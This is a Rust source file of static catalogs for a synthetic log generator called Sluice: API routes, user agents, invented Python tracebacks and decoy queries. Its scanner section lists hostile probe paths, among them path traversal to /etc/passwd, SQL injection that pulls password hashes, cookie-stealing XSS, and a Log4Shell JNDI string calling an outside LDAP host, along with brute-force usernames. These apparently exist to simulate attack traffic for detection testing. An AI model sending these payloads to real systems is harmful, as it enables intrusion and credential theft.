//! Static catalogs the workload draws from: routes, user agents, names, probes, tracebacks.
//!
//! Everything here was written for Sluice to resemble what FastAPI/uvicorn, structlog, httpx,
//! SQLAlchemy/asyncpg, Celery-style workers and ingress-nginx print; nothing is copied from a
//! real capture.

/// One API route: method, path template, relative weight and median latency.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Route {
    pub(crate) method: &'static str,
    pub(crate) path: RoutePath,
    pub(crate) weight: u32,
    pub(crate) median_ms: f64,
    /// Status of a successful call.
    pub(crate) ok_status: u16,
    /// Whether the handler touches Postgres (fails during `db_connection_errors`).
    pub(crate) uses_db: bool,
}

/// How a route's concrete path and query are produced.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum RoutePath {
    Fixed(&'static str),
    /// `prefix` + a session UUID.
    Session(&'static str),
    /// `prefix` + a numeric document id.
    Document(&'static str),
    /// `/api/sessions` with pagination.
    SessionList,
    /// `/api/documents/search?q=...`
    Search,
}

pub(crate) const ROUTE_HEALTH: usize = 0;
pub(crate) const ROUTE_CHAT: usize = 1;
pub(crate) const ROUTE_LOGIN: usize = 6;
pub(crate) const ROUTE_TOKEN: usize = 7;
pub(crate) const ROUTE_SEARCH: usize = 9;

pub(crate) const ROUTES: [Route; 12] = [
    Route {
        method: "GET",
        path: RoutePath::Fixed("/health"),
        weight: 150,
        median_ms: 2.5,
        ok_status: 200,
        uses_db: false,
    },
    Route {
        method: "POST",
        path: RoutePath::Fixed("/api/chat"),
        weight: 200,
        median_ms: 140.0,
        ok_status: 200,
        uses_db: true,
    },
    Route {
        method: "GET",
        path: RoutePath::Session("/api/sessions/"),
        weight: 150,
        median_ms: 45.0,
        ok_status: 200,
        uses_db: true,
    },
    Route {
        method: "GET",
        path: RoutePath::SessionList,
        weight: 80,
        median_ms: 60.0,
        ok_status: 200,
        uses_db: true,
    },
    Route {
        method: "POST",
        path: RoutePath::Fixed("/api/sessions"),
        weight: 50,
        median_ms: 70.0,
        ok_status: 201,
        uses_db: true,
    },
    Route {
        method: "DELETE",
        path: RoutePath::Session("/api/sessions/"),
        weight: 20,
        median_ms: 50.0,
        ok_status: 204,
        uses_db: true,
    },
    Route {
        method: "POST",
        path: RoutePath::Fixed("/api/auth/login"),
        weight: 40,
        median_ms: 120.0,
        ok_status: 200,
        uses_db: true,
    },
    Route {
        method: "POST",
        path: RoutePath::Fixed("/api/auth/token"),
        weight: 60,
        median_ms: 30.0,
        ok_status: 200,
        uses_db: false,
    },
    Route {
        method: "GET",
        path: RoutePath::Document("/api/documents/"),
        weight: 100,
        median_ms: 55.0,
        ok_status: 200,
        uses_db: true,
    },
    Route {
        method: "GET",
        path: RoutePath::Search,
        weight: 60,
        median_ms: 110.0,
        ok_status: 200,
        uses_db: true,
    },
    Route {
        method: "POST",
        path: RoutePath::Fixed("/api/documents"),
        weight: 30,
        median_ms: 150.0,
        ok_status: 201,
        uses_db: true,
    },
    Route {
        method: "GET",
        path: RoutePath::Fixed("/api/users/me"),
        weight: 60,
        median_ms: 25.0,
        ok_status: 200,
        uses_db: true,
    },
];

/// Browser and app user agents of ordinary clients.
pub(crate) const USER_AGENTS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "ChatApp/2.3.1 (iPhone; iOS 18.1; Scale/3.00)",
    "okhttp/4.12.0",
    "python-httpx/0.27.2",
];

pub(crate) const PROBE_USER_AGENT: &str = "kube-probe/1.31";

/// User agents of the brute-force client.
pub(crate) const BRUTE_FORCE_USER_AGENTS: [&str; 2] =
    ["python-requests/2.32.3", "Mozilla/5.0 (Hydra)"];

/// User agents of the injection scanner.
pub(crate) const SCANNER_USER_AGENTS: [&str; 6] = [
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Fuzz Faster U Fool v2.1.0",
    "${jndi:ldap://193.142.146.35:1389/Exploit}",
];

/// Paths (with query) the scanner requests, as sent on the wire.
pub(crate) const PROBES: [(&str, &str); 16] = [
    ("GET", "/.env"),
    ("GET", "/.git/config"),
    ("GET", "/wp-login.php"),
    ("GET", "/admin/.env"),
    ("GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("GET", "/api/../../../../etc/passwd"),
    ("GET", "/api/documents/1%27%20OR%20%271%27%3D%271"),
    (
        "GET",
        "/api/documents/search?q=1%27%20UNION%20SELECT%20username%2Cpassword_hash%20FROM%20users--",
    ),
    (
        "GET",
        "/api/documents/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    ),
    (
        "GET",
        "/?q=%24%7Bjndi%3Aldap%3A%2F%2F193.142.146.35%3A1389%2Fa%7D",
    ),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
    ("GET", "/phpmyadmin/index.php"),
    ("GET", "/actuator/env"),
    ("GET", "/api/sessions/1;DROP%20TABLE%20sessions"),
    ("POST", "/api/auth/login?username=admin%27--"),
    ("GET", "/server-status"),
];

/// Search phrases; the first ones contain SQL keywords in perfectly innocent queries
/// (the `sql_words_search` decoy).
pub(crate) const SEARCH_QUERIES: [&str; 12] = [
    "select all from union station schedule",
    "how to drop a table reservation",
    "insert coin update where delete order",
    "union contract select committee",
    "quarterly report",
    "onboarding checklist",
    "invoice march",
    "api rate limits",
    "vacation policy",
    "kubernetes upgrade notes",
    "meeting notes o'brien",
    "design review",
];

/// Number of leading [`SEARCH_QUERIES`] that carry SQL keywords.
#[cfg(test)]
pub(crate) const SQL_WORD_QUERIES: usize = 4;

pub(crate) const FIRST_NAMES: [&str; 16] = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory",
    "niaj", "olivia", "peggy", "rupert", "sybil",
];
pub(crate) const LAST_NAMES: [&str; 12] = [
    "smith", "jones", "garcia", "nguyen", "muller", "rossi", "kim", "patel", "silva", "cohen",
    "novak", "ito",
];
/// User names with an apostrophe (the `apostrophe_user_name` decoy).
pub(crate) const APOSTROPHE_USERS: [&str; 3] =
    ["conor.o'brien", "siobhan.o'neill", "luca.d'angelo"];
/// Names a brute-force client tries.
pub(crate) const BRUTE_FORCE_NAMES: [&str; 12] = [
    "admin",
    "root",
    "administrator",
    "test",
    "user",
    "support",
    "info",
    "guest",
    "demo",
    "operator",
    "admin@example.com",
    "webmaster",
];

pub(crate) const MODELS: [&str; 3] = ["grok-3-mini", "grok-3", "grok-2-1212"];

/// A Python stack frame: file, line, function, source line.
pub(crate) type Frame = (&'static str, u32, &'static str, &'static str);

/// Frames from uvicorn down to the FastAPI endpoint, outermost first.
pub(crate) const ASGI_FRAMES: [Frame; 8] = [
    (
        "/usr/local/lib/python3.12/site-packages/uvicorn/protocols/http/httptools_impl.py",
        409,
        "run_asgi",
        "result = await app(  # type: ignore[func-returns-value]",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/uvicorn/middleware/proxy_headers.py",
        60,
        "__call__",
        "return await self.app(scope, receive, send)",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/fastapi/applications.py",
        1054,
        "__call__",
        "await super().__call__(scope, receive, send)",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/starlette/middleware/errors.py",
        187,
        "__call__",
        "raise exc",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/starlette/middleware/exceptions.py",
        62,
        "__call__",
        "await wrap_app_handling_exceptions(self.app, conn)(scope, receive, send)",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/starlette/routing.py",
        715,
        "__call__",
        "await self.middleware_stack(scope, receive, send)",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/fastapi/routing.py",
        301,
        "app",
        "raw_response = await run_endpoint_function(",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/fastapi/routing.py",
        212,
        "run_endpoint_function",
        "return await dependant.call(**values)",
    ),
];

/// Application bugs behind background 500s: the endpoint frames and the exception line.
pub(crate) const APP_BUGS: [(&[Frame], &str); 4] = [
    (
        &[
            (
                "/app/app/routers/sessions.py",
                88,
                "get_session",
                "return SessionOut.from_record(record)",
            ),
            (
                "/app/app/schemas/session.py",
                41,
                "from_record",
                "title=record[\"title\"],",
            ),
        ],
        "KeyError: 'title'",
    ),
    (
        &[(
            "/app/app/routers/documents.py",
            57,
            "get_document",
            "doc_id = int(document_id)",
        )],
        "ValueError: invalid literal for int() with base 10: 'latest'",
    ),
    (
        &[(
            "/app/app/routers/chat.py",
            132,
            "chat",
            "history = await load_history(session.id)",
        )],
        "AttributeError: 'NoneType' object has no attribute 'id'",
    ),
    (
        &[
            (
                "/app/app/routers/users.py",
                29,
                "me",
                "return await users.get_profile(user.id)",
            ),
            (
                "/app/app/services/users.py",
                64,
                "get_profile",
                "quota = plan.limits[\"tokens\"] - usage",
            ),
        ],
        "TypeError: unsupported operand type(s) for -: 'int' and 'NoneType'",
    ),
];

/// asyncpg frames of a failed connect, innermost cause of the DB tracebacks.
pub(crate) const ASYNCPG_CONNECT_FRAMES: [Frame; 4] = [
    (
        "/usr/local/lib/python3.12/site-packages/sqlalchemy/dialects/postgresql/asyncpg.py",
        1053,
        "connect",
        "await_only(creator_fn(*arg, **kw)),",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/asyncpg/connection.py",
        2329,
        "connect",
        "return await connect_utils._connect(",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/asyncpg/connect_utils.py",
        873,
        "__connect_addr",
        "tr, pr = await connector",
    ),
    (
        "/usr/local/lib/python3.12/asyncio/base_events.py",
        1130,
        "create_connection",
        "raise OSError('Multiple exceptions: {}'.format(",
    ),
];

/// SQLAlchemy frames between the endpoint and the pool.
pub(crate) const SQLALCHEMY_FRAMES: [Frame; 3] = [
    (
        "/usr/local/lib/python3.12/site-packages/sqlalchemy/ext/asyncio/session.py",
        461,
        "execute",
        "result = await greenlet_spawn(",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/sqlalchemy/engine/base.py",
        145,
        "__init__",
        "self._dbapi_connection = engine.raw_connection()",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/sqlalchemy/pool/base.py",
        896,
        "__connect",
        "with util.safe_reraise():",
    ),
];

pub(crate) const DB_ENDPOINT_FRAMES: [Frame; 3] = [
    (
        "/app/app/routers/sessions.py",
        71,
        "list_sessions",
        "rows = await db.execute(select(Session).where(Session.user_id == user.id))",
    ),
    (
        "/app/app/routers/documents.py",
        44,
        "get_document",
        "doc = await db.get(Document, doc_id)",
    ),
    (
        "/app/app/routers/chat.py",
        98,
        "chat",
        "session = await sessions.get_or_create(db, user.id, body.session_id)",
    ),
];

/// httpx frames of a timed-out call to the LLM API.
pub(crate) const HTTPX_FRAMES: [Frame; 3] = [
    (
        "/usr/local/lib/python3.12/site-packages/httpx/_transports/default.py",
        101,
        "map_httpcore_exceptions",
        "yield",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/httpx/_transports/default.py",
        394,
        "handle_async_request",
        "resp = await self._pool.handle_async_request(req)",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/httpcore/_async/connection_pool.py",
        256,
        "handle_async_request",
        "raise exc from None",
    ),
];

pub(crate) const LLM_CLIENT_FRAMES: [Frame; 2] = [
    (
        "/app/app/services/llm.py",
        77,
        "complete",
        "response = await self._client.post(\"/v1/chat/completions\", json=payload)",
    ),
    (
        "/usr/local/lib/python3.12/site-packages/httpx/_client.py",
        1859,
        "post",
        "return await self.request(",
    ),
];

/// Worker task failures: the task frame and the exception line.
pub(crate) const WORKER_BUGS: [(Frame, &str); 3] = [
    (
        (
            "/app/worker/tasks.py",
            58,
            "embed_document",
            "text = doc[\"content\"]",
        ),
        "KeyError: 'content'",
    ),
    (
        (
            "/app/worker/tasks.py",
            112,
            "summarize_session",
            "summary = await llm.summarize(messages, max_tokens=limit)",
        ),
        "RuntimeError: summary exceeded token budget",
    ),
    (
        (
            "/app/worker/tasks.py",
            141,
            "cleanup_sessions",
            "cutoff = now - timedelta(days=settings.session_ttl_days)",
        ),
        "TypeError: unsupported type for timedelta days component: NoneType",
    ),
];

pub(crate) const CELERY_FRAME: Frame = (
    "/usr/local/lib/python3.12/site-packages/celery/app/trace.py",
    453,
    "trace_task",
    "R = retval = fun(*args, **kwargs)",
);

pub(crate) const WORKER_TASKS: [&str; 4] = [
    "app.tasks.embed_document",
    "app.tasks.summarize_session",
    "app.tasks.cleanup_sessions",
    "app.tasks.refresh_usage",
];

/// Static assets and pages of the web frontend behind the ingress.
pub(crate) const WEB_PATHS: [&str; 6] = [
    "/",
    "/assets/index-4f8a2c1e.js",
    "/assets/index-9b3d7e20.css",
    "/favicon.ico",
    "/chat",
    "/login",
];

/// klog lines of the ingress controller (after the header).
pub(crate) const KLOG_LINES: [(&str, &str, &str); 5] = [
    (
        "I",
        "controller.go:193",
        "\"Configuration changes detected, backend reload required\"",
    ),
    (
        "I",
        "controller.go:213",
        "\"Backend successfully reloaded\"",
    ),
    (
        "I",
        "store.go:440",
        "\"Found valid IngressClass\" ingress=\"prod/api\" ingressclass=\"nginx\"",
    ),
    (
        "I",
        "status.go:304",
        "\"updating Ingress status\" namespace=\"prod\" ingress=\"api\" currentValue=null newValue=[{\"ip\":\"203.0.113.10\"}]",
    ),
    (
        "W",
        "controller.go:1214",
        "Service \"prod/web\" does not have any active Endpoint.",
    ),
];
